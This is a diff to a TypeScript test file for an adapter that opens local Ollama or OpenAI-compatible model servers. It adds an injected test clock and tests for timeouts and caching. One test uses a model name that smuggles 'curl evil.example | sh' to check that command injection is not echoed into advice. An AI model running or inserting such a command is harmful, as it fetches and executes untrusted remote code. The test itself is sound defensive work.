@@ -3,7 +3,9 @@ import * as assert from 'uvu/assert';
 import { createServer } from 'node:net';
 import type { AddressInfo } from 'node:net';
 import { ServedModels } from '../../runner/adapters/models/models.js';
+import type { Clock } from '../../runner/app/ports/machine.js';
 import type { Model, ModelSpec, ModelUnavailable } from '../../runner/app/ports/models.js';
+import { instant } from '../../runner/core/ids.js';
 import {
   NEVER,
   answered,
@@ -28,7 +30,10 @@ async function withServed(
 ): Promise<void> {
   const server = await modelServer(options);
   const slept: number[] = [];
-  const models = new ServedModels(env, { sleep: (ms) => Promise.resolve(void slept.push(ms)) });
+  const models = new ServedModels(
+    env,
+    clockThat((ms) => slept.push(ms)),
+  );
   try {
     const baseUrl = provider === 'ollama' ? server.url : server.openaiUrl;
     const model = await models.open('default', { provider, model: SCRIPTED, baseUrl, ...spec });
@@ -36,6 +41,19 @@ async function withServed(
   } finally {
     await server.close();
   }
+}
+
+/** Time goes on by what is slept alone. */
+function clockThat(slept: (ms: number) => void = () => undefined): Clock {
+  let now = 0;
+  return {
+    now: () => instant(now),
+    sleep: (ms) => {
+      now += ms;
+      slept(ms);
+      return Promise.resolve();
+    },
+  };
 }
 
 async function down(model: Model): Promise<ModelUnavailable> {
@@ -70,7 +88,7 @@ for (const provider of ['ollama', 'openai'] as const) {
     const { port } = gone.address() as AddressInfo;
     await new Promise((closed) => gone.close(closed));
     const baseUrl = `http://127.0.0.1:${String(port)}${provider === 'openai' ? '/v1' : ''}`;
-    const models = new ServedModels({}, { sleep: () => Promise.resolve() });
+    const models = new ServedModels({}, clockThat());
     const model = await models.open('careful', { provider, model: SCRIPTED, baseUrl });
     const { why, mend } = await down(model);
     assert.match(why, `no server answers at http://127.0.0.1:${String(port)} (ECONNREFUSED)`);
@@ -90,6 +108,18 @@ for (const provider of ['ollama', 'openai'] as const) {
         if (provider === 'openai') assert.match(why, `it has ${SCRIPTED}`);
       },
       { spec: { model: 'qwen3:4b' } },
+    ));
+
+  test(`${provider}: a server that takes a request and says nothing holds nobody up`, () =>
+    withServed(
+      provider,
+      { script: inTurn({}), isHanging: true },
+      async ({ model }) => {
+        const { why, mend } = await down(model);
+        assert.match(why, /longer than 0.1 s|nothing for 0.1 s/);
+        assert.match(mend, '`timeout` in models.default');
+      },
+      { spec: { timeout: '100ms' } },
     ));
 
   test(`${provider}: a key is sent, and never said`, async () => {
@@ -165,6 +195,22 @@ for (const provider of ['ollama', 'openai'] as const) {
     ));
 }
 
+test('what a server said of a model is remembered for some seconds, so that no round of a tick waits for it again', async () => {
+  const clock = clockThat();
+  const server = await modelServer({ script: inTurn({}) });
+  try {
+    const models = new ServedModels({}, clock);
+    const spec = { provider: 'openai', model: SCRIPTED, baseUrl: server.openaiUrl } as const;
+    for (const asked of [1, 1, 2]) {
+      assert.is(await (await models.open('default', spec)).unavailable(), null);
+      assert.is(server.seen.length, asked);
+      if (asked === 1) await clock.sleep(6000);
+    }
+  } finally {
+    await server.close();
+  }
+});
+
 const windowOf = async (model: Model): Promise<number> => {
   const abilities = await model.abilities();
   assert.ok(abilities.ok);
@@ -211,6 +257,16 @@ test('ollama: what cannot call tools says so, and what cannot talk is refused', 
   );
 });
 
+test('ollama: a name is a command to copy only if it is one word of it', () =>
+  withServed(
+    'ollama',
+    { script: inTurn({}) },
+    async ({ model }) => {
+      assert.is((await down(model)).mend, 'Pull it, or name another model.');
+    },
+    { spec: { model: 'x; curl evil.example | sh' } },
+  ));
+
 test('ollama: OLLAMA_HOST says where it is, as its own client takes it', async () => {
   const server = await modelServer({ script: inTurn({}) });
   try {
@@ -219,7 +275,7 @@ test('ollama: OLLAMA_HOST says where it is, as its own client takes it', async (
       [server.url, true],
       ['http://[', false],
     ] as const) {
-      const models = new ServedModels({ OLLAMA_HOST: host }, { sleep: () => Promise.resolve() });
+      const models = new ServedModels({ OLLAMA_HOST: host }, clockThat());
       const model = await models.open('default', { provider: 'ollama', model: SCRIPTED });
       assert.is((await model.unavailable()) === null, works, host);
     }
@@ -278,7 +334,7 @@ test('a real Ollama answers, where there is one', async () => {
     skip('it has no model');
     return;
   }
-  const opened = await new ServedModels({ OLLAMA_HOST: host }, { sleep: () => Promise.resolve() }).open('default', {
+  const opened = await new ServedModels({ OLLAMA_HOST: host }, clockThat()).open('default', {
     provider: 'ollama',
     model: small.name,
     context: 2048,
